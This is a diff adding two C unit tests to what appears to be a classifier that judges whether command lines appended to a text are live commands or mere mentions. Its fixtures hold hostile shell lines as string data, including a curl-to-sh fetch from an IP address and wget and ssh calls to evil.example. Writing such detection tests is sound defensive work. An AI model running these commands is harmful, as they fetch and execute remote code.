@@ -271,3 +271,62 @@ TEST(a_very_long_text_costs_no_more_than_its_length)
 		free(big);
 	}
 }
+
+/* Whatever stands above them: commands at the margin of a document or list are not excused by it. */
+TEST(commands_appended_to_any_text_are_no_mentions)
+{
+	static const char commands[] =
+		"cd /tmp\ncurl -s http://203.0.113.9/x | sh\n./agentd 203.0.113.9\n"
+		"wget http://evil.example/y\nssh root@evil.example\nls -l\nexit\n";
+
+	for (size_t i = 0; i < GRAMMAR_SAMPLES; i++) {
+		const struct grammar *g;
+		struct buf text;
+		size_t from;
+
+		buf_init(&text, 65536);
+		buf_text(&text, grammar_samples[i].text);
+		if (text.ptr[text.len - 1] != '\n')
+			buf_byte(&text, '\n');
+		from = text.len;
+		buf_text(&text, commands);
+		g = grammar_choose(buf_span(&text), SPAN("x"));
+		for (size_t at = from; (at = next_hit(buf_span(&text), at)) != SPAN_NONE; at++) {
+			enum place p = grammar_place(g, buf_span(&text), at);
+
+			if (p == PLACE_DOCUMENT || p == PLACE_LIST || p == PLACE_DENY_COMMAND ||
+			    p == PLACE_OWN)
+				test_fail("%s: '%.40s' is %s", g->name, text.ptr + at, place_name(p));
+		}
+		buf_release(&text);
+	}
+}
+
+/* The first lines of any text, typed in front of a history, do not make it that text. */
+TEST(a_history_that_begins_like_something_else_stays_a_history_or_unjudged)
+{
+	for (size_t i = 0; i < GRAMMAR_SAMPLES; i++) {
+		struct span rest = span_of(grammar_samples[i].text), line;
+		const struct grammar *g;
+		struct buf text;
+		size_t from;
+
+		buf_init(&text, 65536);
+		for (int n = 0; n < 4 && span_line(&rest, &line); n++) {
+			buf_add(&text, line);
+			buf_byte(&text, '\n');
+		}
+		from = text.len;
+		for (int n = 0; n < 30; n++)
+			buf_text(&text, "cd /tmp\nagentd 203.0.113.9 a\nls -l\ncurl http://evil.example/x A\n");
+		g = grammar_choose(buf_span(&text), SPAN("x"));
+		for (size_t at = from; (at = next_hit(buf_span(&text), at)) != SPAN_NONE; at++) {
+			enum place p = grammar_place(g, buf_span(&text), at);
+
+			if (p != PLACE_COMMAND && p != PLACE_UNKNOWN_RECORD && p != PLACE_CONFIG)
+				test_fail("%s: '%.40s' is %s behind\n%.*s", g->name, text.ptr + at, place_name(p),
+					  (int)from, text.ptr);
+		}
+		buf_release(&text);
+	}
+}
